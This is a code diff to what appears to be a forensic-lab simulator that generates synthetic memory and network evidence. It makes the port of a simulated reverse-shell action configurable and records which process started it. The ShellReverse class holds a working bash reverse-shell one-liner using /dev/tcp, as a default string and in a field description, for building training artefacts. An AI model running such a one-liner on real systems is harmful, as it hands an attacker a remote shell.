@@ -12,11 +12,18 @@ from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
 from typing import TYPE_CHECKING, Any, ClassVar
 
-from pydantic import Field
+from pydantic import Field, field_validator
 
 from labkit.evidence.memory.spec import OpenFile
 from labkit.story.base import ActionFailed
-from labkit.story.memory.action_base import PROCESS_FACTS, MemoryAction, process_facts
+from labkit.story.memory.action_base import (
+    PORT_DESCRIPTION,
+    PROCESS_FACTS,
+    MemoryAction,
+    check_port,
+    process_facts,
+    render_port,
+)
 from labkit.story.network.action_base import CONNECTION_FACTS, connection_facts
 from labkit.story.network.runtime import StreamEnd, from_us, to_us
 
@@ -56,7 +63,7 @@ class ShellCommand(MemoryAction):
 
     def apply(self, ctx: StoryContext, when: datetime) -> dict[str, Any]:
         host = self.memory(ctx)
-        shell = self.process_ref(ctx, self.shell)
+        shell = self.process_ref(ctx, self.shell, "shell")
         if shell.comm not in SHELLS:
             raise ActionFailed(f"shell: {self.shell!r} is {shell.comm!r}, not an interactive shell")
         line = ctx.render(self.command)
@@ -103,10 +110,14 @@ class ShellReverse(MemoryAction):
         "local_port",
         "remote_ip",
         "remote_port",
+        "origin_pid",
+        "origin_name",
     )
 
     to: str = Field(description="host id of the attacker's listener (a host with a network identity)")
-    port: int = Field(4444, ge=1, le=65535)
+    port: int | str = Field(4444, description=PORT_DESCRIPTION)
+
+    _port = field_validator("port")(lambda cls, v: check_port(v))
     parent: str = Field(description="handle of the process that ran the payload (e.g. php_worker)")
     command: str | None = Field(
         None, description="the one-liner run by sh -c; default: bash -c 'bash -i >& /dev/tcp/IP/PORT 0>&1'"
@@ -116,16 +127,17 @@ class ShellReverse(MemoryAction):
         return [("host", self.host), ("to", self.to)]
 
     def apply(self, ctx: StoryContext, when: datetime) -> dict[str, Any]:
+        port = render_port(ctx, self.port)
         if ctx.network is None:
             raise ActionFailed("a reverse shell needs a 'network:' section with a capture point")
         host = self.memory(ctx)
-        parent = self.process_ref(ctx, self.parent)
+        parent = self.process_ref(ctx, self.parent, "parent")
         runtime = ctx.network
         victim, attacker = runtime.host(self.host), runtime.host(ctx.render(self.to))
         one_liner = (
             ctx.render(self.command)
             if self.command
-            else (f"bash -c 'bash -i >& /dev/tcp/{attacker.ipv4}/{self.port} 0>&1'")
+            else (f"bash -c 'bash -i >& /dev/tcp/{attacker.ipv4}/{port} 0>&1'")
         )
         rng = ctx.rng("shell.reverse", self.id or self.host)
         user = host.account(parent.uid)
@@ -139,7 +151,11 @@ class ShellReverse(MemoryAction):
         )
         start = when + timedelta(milliseconds=rng.randrange(2, 12))
         connection = runtime.tcp(
-            victim, attacker, self.port, to_us(start), f"shell.reverse:{self.id}:{self.host}"
+            victim,
+            attacker,
+            port,
+            to_us(start),
+            f"shell.reverse:{self.id}:{self.host}",
         )
         connection.connect()
         socket = host.socket(
@@ -150,7 +166,7 @@ class ShellReverse(MemoryAction):
             local_addr=str(victim.ipv4),
             local_port=connection.client_port,
             remote_addr=str(attacker.ipv4),
-            remote_port=self.port,
+            remote_port=port,
         )
         shell = host.spawn(
             parent=sh,
@@ -189,7 +205,9 @@ class ShellReverse(MemoryAction):
             sh_pid=sh.pid,
             local_port=connection.client_port,
             remote_ip=str(attacker.ipv4),
-            remote_port=self.port,
+            remote_port=port,
+            origin_pid=parent.pid,
+            origin_name=parent.comm,
         )
         facts.pop("finished", None)
         return facts
